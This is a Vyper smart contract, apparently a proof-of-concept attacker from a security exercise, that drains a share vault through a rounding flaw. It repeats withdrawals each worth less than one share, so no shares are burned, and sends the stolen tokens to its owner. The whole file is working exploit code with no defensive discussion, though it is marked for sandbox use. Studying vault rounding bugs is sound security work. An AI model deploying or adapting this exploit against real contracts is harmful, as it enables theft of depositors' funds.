# pragma version 0.4.3
"""
@title Attacker: rounding / price-split drain of the share vault
@notice Splits a large withdrawal into `n` pieces each worth less than one share, so each burns
        zero shares; the loot goes to the owner.
@dev Revert messages are prefixed with "attack:". Sandbox use only.
"""

from ethereum.ercs import IERC20

interface IShareVault:
    def withdraw(assets: uint256) -> uint256: nonpayable
    def asset() -> address: view

owner: public(address)
vault: public(address)


@deploy
def __init__(vault_: address):
    self.owner = msg.sender
    self.vault = vault_


@external
def drain(piece: uint256, n: uint256):
    """
    @notice Withdraw `piece` assets `n` times (n <= 400); forward everything to the owner.
    """
    assert msg.sender == self.owner, "attack: not owner"
    for i: uint256 in range(n, bound=400):
        extcall IShareVault(self.vault).withdraw(piece)
    asset: address = staticcall IShareVault(self.vault).asset()
    extcall IERC20(asset).transfer(self.owner, staticcall IERC20(asset).balanceOf(self))
